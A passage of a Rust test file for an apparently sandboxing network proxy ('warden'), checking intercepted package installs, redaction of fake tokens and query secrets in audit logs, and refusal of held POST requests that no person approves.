           --registry {npm_base}/npm/ tinypkg || {{ tail -n 30 .npm/_logs/*.log >&2; exit 1; }}; }} && \
         node -e 'console.log(require(\"tinypkg\"))'"
    );
    let o = e.warden("run", &p, &script);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{out}{err}");
    assert_eq!(
        out, "pip installed over intercepted TLS\nnpm installed over intercepted TLS\n",
        "{err}"
    );
    let requests = e.requests();
    for r in [
        "GET /simple/tinypkg/",
        "GET /files/tinypkg-1.0-py3-none-any.whl",
        "GET /npm/tinypkg ",
        "GET /npm/tinypkg/-/tinypkg-1.0.0.tgz",
    ] {
        assert!(requests.contains(r), "{r}: {requests}");
    }
    let net = records(&e, "network");
    for path in ["/simple/tinypkg/", "/npm/tinypkg"] {
        assert!(
            net.iter().any(|n| n["path"] == path
                && n["method"] == "GET"
                && n["handling"] == "intercepted"
                && n["allowed"] == true),
            "{path}: {net:#?}"
        );
    }
}

/// A request's record names its method and path with the query stripped and tokens in the path
/// masked (a GitHub token by the proxy itself, an AWS key by the audit log's redaction), along
/// with its tier, the rule that judged it and how it was handled; the log holds neither token
/// nor the query's secret.
#[test]
fn a_request_record_has_its_path_redacted_and_its_query_stripped() {
    let Some(e) = setup() else { return };
    const GH: &str = "ghp_pathsecretpathsecretpathsecret0123";
    const AWS: &str = "AKIAPATHSECRET7EXAMP";
    let p = e.policy(true);
    let script = format!(
        "curl -sS \"{}\"; echo",
        e.url(&format!("/v1/{GH}/keys/{AWS}/show?password=querysecret42"))
    );
    let o = e.warden("run", &p, &script);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{out}{err}");
    assert_eq!(out, "GET \n", "the request went through: {err}");
    let net = records(&e, "network");
    let r = net
        .iter()
        .find(|n| n["method"] == "GET" && n["path"].as_str().is_some_and(|p| p.starts_with("/v1/")))
        .unwrap_or_else(|| panic!("no record of the request: {net:#?}"));
    let path = r["path"].as_str().expect("path");
    assert!(path.starts_with("/v1/[redacted]/keys/"), "{path}");
    assert!(path.ends_with("/show"), "query stripped: {path}");
    assert!(!path.contains("AKIA"), "{path}");
    assert_eq!(r["allowed"], true, "{r:#}");
    assert_eq!(r["handling"], "intercepted", "{r:#}");
    assert_eq!(r["tier"], "auto", "{r:#}");
    assert!(
        r["judged_by"].as_str().is_some_and(|j| !j.is_empty()),
        "{r:#}"
    );
    let log = std::fs::read_to_string(e.ws.join(".warden/audit/audit.jsonl")).expect("log");
    for secret in ["pathsecret", "AKIAPATHSECRET", "querysecret42"] {
        assert!(!log.contains(secret), "{secret} is in the log");
    }
}

/// A held request nobody answers is refused when the route's timeout passes: the client gets
/// 403 with the reason, nothing reaches the server, and the hold's record is answered `deny`
/// by nobody, which `warden report` shows as a hold denied for want of an answer.
#[test]
fn a_held_post_nobody_answers_is_refused_at_the_routes_timeout() {
    let Some(e) = setup() else { return };
    let h = HoldServer::start(&e, "2s");
    let (child, _id) = h.hold(&e, "unanswered-body-3");
    let o = finish(child, std::time::Duration::from_secs(60));
    let (out, err) = text(&o);
    assert!(
        out.contains("warden: refused"),
        "the 403's reason: {out}{err}"
    );
    assert!(!out.contains("unanswered-body-3"), "{out}");
    assert!(!e.requests().contains("POST"), "{}", e.requests());
    let held: Vec<serde_json::Value> = records(&e, "nested")
        .into_iter()
        .filter(|b| b["layer"] == "net" && b["tier"] == "sync")
        .collect();
    let answers: Vec<&str> = held.iter().filter_map(|b| b["answer"].as_str()).collect();
    assert_eq!(answers, ["hold", "deny"], "{held:#?}");
    assert!(held[1]["by"].is_null(), "{held:#?}");

    let o = Command::new(WARDEN)
        .args(["report", "--json"])
        .current_dir(&e.ws)
        .env("HOME", e.root.path())
        .output()
        .expect("warden report");
    let r: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let incident = r["incidents"]
        .as_array()
        .and_then(|i| i.first())
        .unwrap_or_else(|| panic!("no incident: {r:#}"))
        .clone();
    assert!(
        incident["detail"]
            .as_str()
            .is_some_and(|d| d.contains("(rule test.post-needs-a-person): denied (no answer)")),
        "{incident:#}"
    );
}
